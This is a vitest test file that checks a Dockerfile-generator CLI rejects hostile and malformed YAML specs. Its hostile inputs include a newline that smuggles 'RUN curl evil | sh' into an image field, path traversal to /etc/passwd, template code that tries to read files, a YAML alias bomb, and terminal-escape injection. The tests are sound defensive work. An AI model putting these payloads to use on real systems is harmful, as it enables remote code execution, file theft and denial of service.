// Broken and hostile specs, written by hand as a careless user and an attacker would: each is
// run through the real CLI (`generate`), and each must end with exit 2, every error at
// file:line:column, no stack trace, no control bytes on the terminal, nothing written, and a
// bounded cost, measured in the run.
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { measuredCli } from '../helpers/cli.ts';
import { MAX_PARSED_NODES } from '../../core/load/source.ts';
import { MINI_SPEC, MINI_TEMPLATES, tempDir, writeTree } from '../helpers/spec.ts';

interface Case {
  name: string;
  /** The manifest (default: the mini spec), given whole or as an edit of the mini spec. */
  manifest?: string | ((s: string) => string);
  files?: Record<string, string>;
  /** Set up what plain files cannot be (FIFOs, links). */
  prepare?: (dir: string) => void;
  /** Each must appear in stderr: `file:line:column: error: …`. */
  errors: RegExp[];
  /** Bounds for the run (defaults: 20 s, 500 MB). */
  maxMs?: number;
  maxMB?: number;
}

const M = 'manifest\\.yaml';
const at = (line: number | string, col: number | string, text: string) => new RegExp(`${M}:${line}:${col}: error: ${text}`);

/** The mini spec with the runtime release's template at a known place, for template cases. */
const runtimeTemplate = (body: string) => ({ 'templates/debian/runtime.Dockerfile.eta': body });

function bigSpec(): string {
  // Just under the 4 MiB limit: 60,000 vars.
  const vars = Array.from({ length: 60_000 }, (_, i) => `  key_${i}: "value number ${i} with some padding"`).join('\n');
  return `${MINI_SPEC}vars:\n${vars}\n`;
}

/** One flow list of `1`s: the most nodes per byte YAML has. */
function flowList(items: number): string {
  return `${MINI_SPEC}vars:\n  big: [${Array(items).fill('1').join(',')}]\n`;
}

function aliasBomb(): string {
  const lines = ['a0: &a0 [x, x, x, x, x, x, x, x, x, x]'];
  for (let i = 1; i < 10; i++) lines.push(`a${i}: &a${i} [${Array(10).fill(`*a${i - 1}`).join(', ')}]`);
  return `${MINI_SPEC}vars:\n${lines.map((l) => `  ${l}`).join('\n')}\n`;
}

const CASES: Case[] = [
  // 1. extends reads only regular files inside the spec root.
  { name: 'extends /dev/zero', manifest: (s) => `extends: /dev/zero\n${s}`, errors: [at(1, 10, 'extends: extends names /dev/zero, outside the spec root')] },
  { name: 'extends a FIFO', manifest: (s) => `extends: ./fifo.yaml\n${s}`, prepare: (d) => execFileSync('mkfifo', [join(d, 'fifo.yaml')]), errors: [at(1, 10, 'extends: spec file is not a regular file')] },
  { name: 'extends outside the root', manifest: (s) => `extends: ../../../../../../etc/passwd\n${s}`, errors: [at(1, 10, 'extends: extends names /etc/passwd, outside the spec root')] },
  { name: 'extends through a link out of the root', manifest: (s) => `extends: [link.yaml]\n${s}`, prepare: (d) => execFileSync('ln', ['-s', '/etc/hostname', join(d, 'link.yaml')]), errors: [at(1, 11, 'extends: extends names .*link\\.yaml, outside the spec root')] },
  { name: 'extends cycle', manifest: (s) => `extends: b.yaml\n${s}`, files: { 'b.yaml': 'extends: manifest.yaml\n' }, errors: [/b\.yaml:1:10: error: extends: extends forms a cycle/] },
  // 2. Control characters in values that reach Dockerfiles and argv.
  { name: 'newline in a distro image', manifest: (s) => s.replace('image: example/python:{python}', 'image: "example/python:{python}\\nRUN curl evil | sh"'), errors: [at(19, 12, 'distros\\.deb\\.image: value contains U\\+000A \\(a newline\\)')] },
  { name: 'ESC in a build arg', manifest: (s) => s.replace('    parent: base\n', '    parent: base\n    build_args: { X: "a\\u001b[31mb" }\n'), errors: [at(13, 22, 'releases\\.runtime\\.build_args\\.X: value contains U\\+001B')] },
  { name: 'carriage return in a tag template', manifest: (s) => s.replace('tags: ["base-python{python}-{distro}"]', 'tags: ["base-python{python}\\r-{distro}"]'), errors: [at(10, 12, 'releases\\.base\\.tags\\[0\\]: value contains U\\+000D')] },
  { name: 'NUL in a key', manifest: (s) => s.replace('  hub:\n', '  "h\\0ub":\n'), errors: [at(23, 3, '.*key contains U\\+0000')] },
  // 3. Names every JS object has.
  { name: 'parent: constructor', manifest: (s) => s.replace('parent: base', 'parent: constructor'), errors: [at(12, 13, 'releases\\.runtime\\.parent: parent release "constructor" does not exist')] },
  { name: 'architecture constructor', manifest: (s) => s.replace('architectures: [amd64, arm64v8]\n    releases', 'architectures: [amd64, constructor]\n    releases'), errors: [at(20, 28, 'distros\\.deb\\.architectures\\[1\\]: unknown architecture "constructor"')] },
  { name: 'publish: [toString]', manifest: (s) => `${s}publish: [toString]\n`, errors: [at(27, 11, 'publish\\[0\\]: unknown registry "toString"')] },
  // 4. Templates that reach outside.
  { name: 'template reads a file through process', files: runtimeTemplate('ARG <%= it.parent_arg %>\nFROM ${<%= it.parent_arg %>}\nRUN echo <%= process.getBuiltinModule("fs").readFileSync("/etc/passwd") %>\n'), errors: [/templates\/debian\/runtime\.Dockerfile\.eta:3:10: error: distros\.deb\.releases\.runtime: template error: Cannot read properties of undefined \(reading 'getBuiltinModule'\)/] },
  { name: 'template imports a module', files: runtimeTemplate('ARG <%= it.parent_arg %>\nFROM ${<%= it.parent_arg %>}\n<% import("node:fs") %>\n'), errors: [/runtime\.Dockerfile\.eta:3:4: error: distros\.deb\.releases\.runtime: template error: import\( is not available to templates/] },
  // 5. Silent template faults.
  { name: 'template prints a value that is not there', files: runtimeTemplate('ARG <%= it.parent_arg %>\nFROM ${<%= it.parent_arg %>}\nLABEL x=<%= it.vars.nothing %>\n'), errors: [/runtime\.Dockerfile\.eta:3:9: error: distros\.deb\.releases\.runtime: template error: the template printed an undefined value/] },
  { name: 'template misspells a key', files: runtimeTemplate('ARG <%= it.parent_arg %>\nFROM ${<%= it.distro.imgae %>}\n'), errors: [/runtime\.Dockerfile\.eta:2:8: error: distros\.deb\.releases\.runtime: template error: it\.distro\.imgae is not defined \(it\.distro has name, alias, family, package_manager, image\)/] },
  { name: 'template syntax error', files: runtimeTemplate('ARG <%= it.parent_arg %>\nFROM ${<%= it.parent_arg %>}\nRUN <%= it.vars.x + %>\n'), errors: [/runtime\.Dockerfile\.eta:3:9: error: distros\.deb\.releases\.runtime: template error: Unexpected token '\)' in `it\.vars\.x \+`/] },
  { name: 'template with a NUL byte', files: runtimeTemplate('ARG <%= it.parent_arg %>\nFROM ${<%= it.parent_arg %>}\nRUN a\u0000b\n'), errors: [/runtime\.Dockerfile\.eta:3:6: error: distros\.deb\.releases\.runtime: template error: the template contains a NUL byte/] },
  // 6. Limits that bound cost.
  { name: 'alias bomb', manifest: aliasBomb(), errors: [at('\\d+', '\\d+', '(spec uses more than 1000 aliases|spec expands to more than 200000 values through this alias)')] },
  { name: 'nesting 100,000 deep', manifest: `${MINI_SPEC}vars:\n  deep: ${'['.repeat(100_000)}${']'.repeat(100_000)}\n`, errors: [at(28, 71, 'spec nests deeper than 64 levels')] },
  { name: 'a 3.4 MB spec plans in seconds (and is accepted, so it fails on its template)', manifest: bigSpec(), files: runtimeTemplate('ARG <%= it.parent_arg %>\nFROM ${<%= it.parent_arg %>}\nRUN <%= it.vars.key_59999 %> <%= it.vars.missing %>\n'), errors: [/runtime\.Dockerfile\.eta:3:30: error: distros\.deb\.releases\.runtime: template error/], maxMB: 600 },
  { name: 'a list just under the node limit is accepted and planned under 600 MB (so it fails on its template)', manifest: flowList(MAX_PARSED_NODES - 100), files: runtimeTemplate('ARG <%= it.parent_arg %>\nFROM ${<%= it.parent_arg %>}\nRUN <%= it.vars.missing %>\n'), errors: [/runtime\.Dockerfile\.eta:3:5: error: distros\.deb\.releases\.runtime: template error/], maxMB: 600 },
  { name: '1.9 million list items under the byte limit: refused at the item that crossed the node limit, before a document is built', manifest: flowList(1_900_000), errors: [new RegExp(`${M}:\\d+:\\d+: error: spec file holds more than ${MAX_PARSED_NODES} values`)], maxMB: 300, maxMs: 10_000 },
  { name: 'block list items count as the parser builds them', manifest: `${MINI_SPEC}vars:\n  big:\n${'    - 1\n'.repeat(MAX_PARSED_NODES)}`, errors: [new RegExp(`${M}:\\d+:\\d+: error: spec file holds more than ${MAX_PARSED_NODES} values`)] },
  { name: 'a file over the limit', manifest: `${MINI_SPEC}vars:\n  x: "${'x'.repeat(4 * 1024 * 1024)}"\n`, errors: [at(1, 1, 'spec file is \\d+ bytes; the limit is 4194304')] },
  // 7. Late failures, now found by validation.
  { name: 'distro named like a generated file', manifest: (s) => s.replace('  deb:\n', '  README.md:\n'), errors: [at(15, 3, 'distros\\["README\\.md"\\]: distro name "README\\.md" is the name of a file generate writes')] },
  { name: 'invalid expected-output regex', manifest: (s) => s.replace('    parent: base\n', '    parent: base\n    tests: [{ name: t, run: "true", expect: { output: "([unclosed" } }]\n'), errors: [at(13, '\\d+', 'releases\\.runtime\\.tests\\[0\\]\\.expect\\.output: expected output is not a valid regular expression')] },
  { name: 'option-like registry host', manifest: (s) => s.replace('    kind: dockerhub\n', '    kind: generic\n    host: "--insecure"\n'), errors: [at(25, 11, 'registries\\.hub\\.host: expected a registry host')] },
  // 8. Messages that are safe and complete.
  { name: 'escape sequences and a right-to-left override in an unknown key', manifest: (s) => s.replace('  hub:\n', '  hub:\n    "evil\\u001b]0;pwned\\u0007\\u202ekey": 1\n'), errors: [/manifest\.yaml:24:5: error: .*\\u001b\]0;pwned\\u0007\\u202ekey/] },
  { name: 'duplicate key named', manifest: (s) => s.replace('package: mini\n', 'package: mini\npackage: again\n'), errors: [at(2, 1, 'duplicate key "package": a key may appear once in a map')] },
  { name: 'NUL byte in the spec, with its line', manifest: (s) => s.replace('version: 1.2.3', 'version: 1.2\u00003'), errors: [at(2, 13, 'spec file contains a NUL byte')] },
  // Every independent error in one pass: a schema error beside two rule errors.
  { name: 'schema and rule errors together', manifest: (s) => s.replace('parent: base', 'parent: bsae').replace('namespace: acme', 'namespace: ACME'), errors: [at(12, 13, 'releases\\.runtime\\.parent: parent release "bsae" does not exist'), at(25, 16, 'registries\\.hub\\.namespace: expected a lowercase namespace')] },
];

describe('hostile and broken specs, through the CLI', () => {
  for (const c of CASES) {
    it(c.name, () => {
      const manifest = typeof c.manifest === 'string' ? c.manifest : (c.manifest ?? ((s: string) => s))(MINI_SPEC);
      const dir = writeTree({ 'manifest.yaml': manifest, ...MINI_TEMPLATES, ...c.files });
      mkdirSync(join(dir, '.git'));
      c.prepare?.(dir);
      const out = join(tempDir(), 'generated');
      const r = measuredCli(['generate', join(dir, 'manifest.yaml'), '--output', out]);
      expect(r.code, r.stderr.slice(-1500)).toBe(2);
      for (const e of c.errors) expect(r.stderr, r.stderr.slice(-1500)).toMatch(e);
      expect(r.stderr).toMatch(/\d+ errors?; nothing was written/);
      // No stack trace, no raw control or bidirectional-override characters on the terminal.
      expect(r.stderr).not.toMatch(/^\s+at .*\(.*:\d+:\d+\)$/m);
      expect(r.stdout + r.stderr).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f\u202a-\u202e\u2066-\u2069]/);
      expect(existsSync(out)).toBe(false);
      expect(existsSync(join(dir, 'generated'))).toBe(false);
      expect(r.wallMs, 'wall time').toBeLessThan(c.maxMs ?? 20_000);
      expect(r.maxRssMB, 'peak memory').toBeLessThan(c.maxMB ?? 500);
    });
  }

});
